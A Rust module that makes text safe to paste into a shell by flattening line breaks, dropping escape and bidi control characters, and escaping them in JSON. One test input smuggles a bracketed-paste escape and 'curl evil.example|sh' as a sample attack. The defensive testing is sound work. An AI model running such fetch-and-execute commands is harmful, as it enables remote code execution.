//! Text as it may be pasted anywhere, a shell included.

use std::borrow::Cow;

use super::clean::{Replaced, display_safe, safe_spans};

/// The text without what a paste must not hold: a shell runs what stands before a line break, an
/// escape code ends a bracketed paste, and bidi controls show another text than is run.
///
/// Line breaks and tabs become one blank each run; everything else that [`display_safe`] would write
/// out is left out. Borrowed when nothing changes.
pub fn paste_safe(text: &str) -> Cow<'_, str> {
    let is_safe = |text: &str| matches!(safe_spans(text).as_slice(), [] | [(_, Replaced::No)]);
    if is_safe(text) {
        return Cow::Borrowed(text);
    }
    let mut clean = one_line(text);
    // Removing something can join its neighbours to a new unsafe sequence, so check again.
    while !is_safe(&clean) {
        let spans = safe_spans(&clean).into_iter();
        let kept = spans.filter(|(_, replaced)| *replaced == Replaced::No);
        clean = kept.map(|(part, _)| part).collect();
    }
    Cow::Owned(clean)
}

/// Runs of line breaks and tabs as one blank; none at either end.
fn one_line(text: &str) -> String {
    let is_break = |c| {
        matches!(
            c,
            '\n' | '\r' | '\t' | '\u{b}' | '\u{c}' | '\u{85}' | '\u{2028}' | '\u{2029}'
        )
    };
    let words: Vec<&str> = text
        .split(is_break)
        .filter(|word| !word.is_empty())
        .collect();
    words.join(" ")
}

/// JSON as it may be pasted: the same value on one line, hostile characters as `\u` escapes.
/// Borrowed when nothing changes.
pub fn paste_safe_json(json: &str) -> Cow<'_, str> {
    // In valid JSON line breaks stand between tokens only.
    let is_break = |c| matches!(c, '\n' | '\r' | '\t');
    if json.contains(is_break) {
        let lines: Vec<&str> = json.split(is_break).map(str::trim).collect();
        Cow::Owned(json_escapes(&lines.concat()).into_owned())
    } else {
        json_escapes(json)
    }
}

/// The inside of a JSON string with `\u` escapes for characters that could steer a terminal or hide
/// text. The value stays the same. Borrowed when nothing changes.
pub fn json_escapes(fragment: &str) -> Cow<'_, str> {
    let is_ascii = fragment.is_ascii() && memchr::memchr(0x7f, fragment.as_bytes()).is_none();
    if is_ascii || display_safe(fragment) == fragment {
        return Cow::Borrowed(fragment);
    }
    let (mut utf8, mut utf16) = ([0; 4], [0; 2]);
    let mut escaped = String::with_capacity(fragment.len() + 16);
    for c in fragment.chars() {
        let one: &str = c.encode_utf8(&mut utf8);
        if display_safe(one) == one {
            escaped.push_str(one);
        } else {
            for unit in c.encode_utf16(&mut utf16) {
                escaped.push_str(&format!("\\u{unit:04x}"));
            }
        }
    }
    Cow::Owned(escaped)
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    #[test]
    fn what_a_shell_could_obey_is_left_out() {
        for (text, pasted) in [
            ("jdoe", "jdoe"),
            ("c.müller@example.org", "c.müller@example.org"),
            (
                "bob\u{1b}[201~\ncurl evil.example|sh\n",
                "bob[201~ curl evil.example|sh",
            ),
            ("a\r\nb\tc\u{2028}d", "a b c d"),
            ("x\u{202e}y\u{200b}z\u{9b}31m\u{7f}", "xyz31m"),
            ("\n", ""),
        ] {
            assert_eq!(paste_safe(text), pasted, "{text:?}");
        }
    }

    #[test]
    fn json_keeps_its_value_on_one_line() {
        let json =
            "{\n  \"roles\": [\n    \"reboot\"\n  ],\r\n\t\"user\": \"a\\n\u{202e}b c\u{7f}\"\n}";

        let pasted = paste_safe_json(json);

        assert_eq!(
            pasted,
            "{\"roles\": [\"reboot\"],\"user\": \"a\\n\\u202eb c\\u007f\"}"
        );
        let value = |text| serde_json::from_str::<serde_json::Value>(text).unwrap();
        assert_eq!(value(&pasted), value(json));
    }

    proptest! {
        #[test]
        fn nothing_that_is_written_out_on_screen_is_left(text in "(?s).{0,40}") {
            let pasted = paste_safe(&text).into_owned();
            prop_assert_eq!(display_safe(&pasted), pasted.as_str());
        }
    }
}
